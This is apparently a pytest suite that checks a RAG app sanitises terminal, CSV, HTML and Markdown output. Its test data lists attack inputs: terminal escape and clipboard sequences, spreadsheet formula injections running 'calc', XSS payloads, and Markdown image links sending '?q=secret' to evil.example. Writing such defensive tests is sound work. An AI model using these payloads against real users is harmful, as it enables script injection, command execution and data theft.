"""What documents may try on the one who reads them."""

import ast
import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from ragapp.cli import output
from ragapp.inert import csv_cell, csv_text, html_text, markdown_text, terminal_json, terminal_text

TERMINAL = [
    ("\x1b[31mred\x1b[0m", "red"),
    ("\x1b]0;new title\x07text", "text"),
    ("\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\", "click"),
    ("\x1b]52;c;cm0gLXJm\x07clipboard", "clipboard"),
    ("\x1bP1$r q\x1b\\report", "report"),
    ("\x1b_hidden\x1b\\shown", "shown"),
    ("\x9b2Jcleared", "cleared"),
    ("\x9d0;title\x9ctext", "text"),
    ("a\x1b[2K\rb", "ab"),
    ("\x1b[1;1H\x1b[2Jtop", "top"),
    ("\x1bcreset", "reset"),
    ("\x1b(0lines", "lines"),
    ("\x1b[?1049hother screen", "other screen"),
    ("cut \x1b", "cut "),
    ("cut \x1b[3", "cut "),
    ("never ended \x1b]0;title\nnext line", "never ended \nnext line"),
    ("back\x08\x08space\x7f", "backspace"),
    ("bell\x07 null\x00", "bell null"),
    ("invoice\u202efdp.exe", "invoicefdp.exe"),
    ("a\u2066b\u2069c", "abc"),
    ("tab\tand\nline, é ß 日本 🙂 stay", "tab\tand\nline, é ß 日本 🙂 stay"),
    ("array[0] = x; 3 [m]", "array[0] = x; 3 [m]"),
]


@pytest.mark.parametrize(("text", "shown"), TERMINAL)
def test_a_terminal_shows_and_does_nothing(text, shown):
    assert terminal_text(text) == shown


@given(st.text(st.sampled_from("\x1b[]P_0;m\x07\\\x9b\x9c\x9dab\n\u202e"), max_size=30))
def test_nothing_is_left_that_a_terminal_acts_on(text):
    assert not set(terminal_text(text)) & set("\x1b\x07\x9b\x9c\x9d\u202e")


def test_every_way_out_of_the_command_line_is_inert(capsys):
    attack = "\x1b]0;x\x07\x9b31mhi\u202e"
    output.say(attack)
    output.note(attack)
    output.say_table(["a"], [[attack]])
    output.say_json({"text": attack})
    out, err = capsys.readouterr()
    assert not set(out + err) & set("\x1b\x07\x9b\u202e")
    assert json.loads(out[out.index("{") :]) == {"text": attack}


def test_nothing_else_of_the_command_line_writes_to_the_terminal():
    """But the version, which is ragapp's own word."""
    folder = Path(output.__file__).parent
    writers = set()
    for file in folder.glob("*.py"):
        for node in ast.walk(ast.parse(file.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call):
                called = ast.unparse(node.func)
                if called in ("print", "typer.echo", "typer.secho") or re.fullmatch(
                    r"sys\.std(out|err)\.write", called
                ):
                    writers.add((file.name, called))
    assert writers == {("output.py", "sys.stdout.write"), ("output.py", "sys.stderr.write"), ("main.py", "typer.echo")}


def test_json_stays_the_same_document():
    document = json.dumps({"a": "\x9b\x7f\u202e\u2069é"}, ensure_ascii=False)
    assert json.loads(terminal_json(document)) == json.loads(document)


@pytest.mark.parametrize(
    "attack",
    [
        "=1+1", "=HYPERLINK(\"http://evil.example\",\"x\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
        "@SUM(1,1)", "=cmd|' /C calc'!A0", "\t=1", "\r=1", "\n=1", "  =1", "＝1+1", "＋1", "－1+A1", "＠SUM(1)",
        "%0A=1", "|calc", "-A1", "+A1", "-", "=", "- item of a list", "-1+1",
    ],
)  # fmt: skip
def test_a_cell_is_no_formula(attack):
    assert csv_cell(attack) == f"'{attack}"


@pytest.mark.parametrize("value", ["text", "a=b", "-5", "-5.20", "+33 1 23 45", "-1 234,50", "12 %", "-3%", "", 5])
def test_a_cell_stays_what_it_is(value):
    assert csv_cell(value) == str(value)


def test_rows_are_quoted():
    assert csv_text([["a", 'b"c'], ["=x", None]]) == '"a","b""c"\r\n"\'=x",""\r\n'


MARKUP = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "<svg><script>1</script></svg>",
    "<iframe src=javascript:alert(1)>", "<a href='javascript:alert(1)'>x</a>", "<style>*{background:url(//e)}</style>",
    "![x](http://evil.example/?q=secret)", "![x][r]\n\n[r]: http://evil.example/?q=secret", "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))", "[x](java\tscript:alert(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)", "[x](http://evil.example)", "<http://evil.example>", "<javascript:alert(1)>",
    "[x](<javascript:alert(1)>)", "[x](&#106;avascript:alert(1))", "[x]: javascript:alert(1)\n\n[x]",
    "![](data:image/svg+xml;base64,PHN2Zz4=)", "[![x](http://e/i.png)](http://e)", "&lt;script&gt;", "&#60;script&#62;",
    "# Heading\n\n***", "| a | b |\n|:--|--:|\n| <img src=x> | ![](http://e) |", "```html onload=x\n<script>\n```",
    "    <script>indented</script>", "`<script>`", "- a\n\n3. b", "http://evil.example www.evil.example a@evil.example",
    "<!-- --><b>", "<math><mtext></mtext><mglyph><style></math>", "<a\nhref=x>", "\\<script>", "![x](//evil.example/a)",
    "=====\nx\n-----", "<details open ontoggle=alert(1)>", "$$\\href{javascript:alert(1)}{x}$$", "~~~\n<script>\n~~~",
]  # fmt: skip


class Elements(HTMLParser):
    def __init__(self, html):
        super().__init__()
        self.found, self.attributes, self.text = set(), [], ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.found.add(tag)
        self.attributes += attrs

    def handle_data(self, data):
        self.text += data


KNOWN = {
    "p", "em", "strong", "s", "code", "pre", "ul", "ol", "li", "blockquote", "hr", "br",
    "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip


@pytest.mark.parametrize("attack", MARKUP)
def test_the_page_gets_no_element_that_acts(attack):
    elements = Elements(html_text(attack))
    assert elements.found <= KNOWN
    assert elements.attributes == []


def test_the_page_still_gets_what_is_written():
    html = html_text("**25 days**, see [the policy](http://intranet/p) and ![chart](http://e/c.png):\n\n- one\n- two")
    assert html == (
        "<p><strong>25 days</strong>, see the policy (http://intranet/p) and chart:</p>\n"
        "<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n"
    )


@pytest.mark.parametrize("attack", MARKUP)
@pytest.mark.parametrize("viewer", ["commonmark", "gfm-like"])
def test_an_export_in_markdown_is_only_read(viewer, attack):
    markdown = MarkdownIt(viewer, {"html": True, "linkify": False}).enable("table")
    elements = Elements(markdown.render(markdown_text(attack)))
    assert elements.found <= {"p"}
    assert elements.attributes == []
    assert "".join(elements.text.split()) == "".join(terminal_text(attack).split())


@given(st.text(st.sampled_from("<>![]()`*_#-+=|~&;:/.1aw\n\\ \"'$@{}"), max_size=40))
def test_whatever_stands_in_an_export_is_only_read(text):
    elements = Elements(MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown_text(text)))
    assert elements.found <= {"p"}


@pytest.mark.parametrize("address", ["http://e.example", "https://e", "HTTP://E", "www.e.example", "mailto:a@b.c"])
def test_bare_addresses_are_broken_up(address):
    assert address not in markdown_text(f"see {address} now")


@given(st.text(max_size=60) | st.text(st.sampled_from("<>![]()`*_:/ javascript\n\"'&#;x"), max_size=60))
def test_whatever_a_model_writes_acts_on_nothing(text):
    elements = Elements(html_text(text))
    assert elements.found <= KNOWN
    assert elements.attributes == []
